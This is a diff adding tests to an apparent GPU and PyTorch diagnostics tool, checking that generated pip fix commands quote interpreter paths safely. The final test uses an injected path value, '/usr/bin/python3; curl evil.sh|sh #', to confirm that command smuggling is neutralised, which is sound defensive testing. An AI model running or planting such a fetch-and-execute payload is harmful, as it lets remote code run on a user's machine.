@@ -322,3 +322,30 @@ def test_an_old_toolkit_with_unknown_loaded_libraries_is_info() -> None:
     assert problems(None) <= known  # not knowing what was loaded adds no warning
     assert problems([dataclasses.replace(lib, via=None)]) <= known
     assert "CD220" in problems([])  # nothing came from there: the old toolkit itself is the warning
+
+
+# --- a fix command's interpreter path is one shell word ------------------------------------------------
+
+
+def _cpu_torch_fix_commands(python: str, windows: bool = False) -> list[str]:
+    dev = [gpu(0, "NVIDIA GeForce RTX 3060", "8.6", total_gib=12)]
+    facts = healthy(dev, driver="560.35.03", cuda=12060)
+    if windows:
+        facts.system.os = "Windows"
+    facts.torch = dataclasses.replace(torch_cpu(), python_executable=python)
+    return [c for fx in by_code(evaluate(facts, []))["CD202"].fix for c in fx.commands]
+
+
+def test_an_interpreter_path_with_a_space_pastes_as_one_word() -> None:
+    cmds = _cpu_torch_fix_commands("/home/al ice/my env/bin/python")
+    assert cmds and all(c.startswith("'/home/al ice/my env/bin/python' -m pip") for c in cmds)
+    win = _cpu_torch_fix_commands("C:\\Program Files\\Python312\\python.exe", windows=True)
+    assert win and all(c.startswith('& "C:\\Program Files\\Python312\\python.exe" -m pip') for c in win)
+    plain = _cpu_torch_fix_commands("/opt/venv/bin/python")
+    assert all(c.startswith("/opt/venv/bin/python -m pip") for c in plain)  # no quotes where none are needed
+
+
+def test_a_replayed_interpreter_path_cannot_run_code_when_pasted() -> None:
+    """Someone else's saved report: its path is a name in the fix, never a second command."""
+    cmds = _cpu_torch_fix_commands("/usr/bin/python3; curl evil.sh|sh #")
+    assert cmds and all(c.startswith("'/usr/bin/python3; curl evil.sh|sh #' -m pip") for c in cmds)
